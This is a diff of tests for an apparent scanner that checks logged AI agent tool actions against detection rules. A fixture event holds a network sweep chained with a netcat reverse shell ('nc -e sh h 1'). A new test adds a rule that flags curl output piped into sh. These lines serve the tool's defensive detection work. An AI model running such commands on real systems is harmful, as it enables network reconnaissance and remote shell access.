@@ -113,3 +113,13 @@ def test_custom_rules_and_no_builtin(tmp_path, rules_text, expect_rule):
     events.write_text(json.dumps({"kind": "action", "ts": 1, "tool": "bash", "input": "nmap -sn 10.0.0.0/24; nc -e sh h 1"}) + "\n")
     doc = json.loads(vigiles("scan", events, "--rules", rules, "--no-builtin", "--format", "json", db=tmp_path / "v.db").stdout)
     assert [f["rule"] for f in doc["findings"]] == [expect_rule]
+
+
+def test_rules_check_says_when_a_rules_own_prefilter_is_set_aside(tmp_path):
+    rules = tmp_path / "mine.yaml"
+    rules.write_text("- rule: into_sh\n  title: into sh\n  category: network_access\n  severity: high\n"
+                     "  condition: cmd.name = sh and cmd.pipe_from = curl\n  prefilter: ['|sh']\n")
+    proc = vigiles("rules", "check", rules, db=tmp_path / "v.db")
+    assert proc.returncode == 0, proc.stderr
+    assert "rule into_sh: its `prefilter` is not used" in proc.stdout
+    assert proc.stdout.count("prefilter` is not used") == 1  # the built-in pack sets none aside
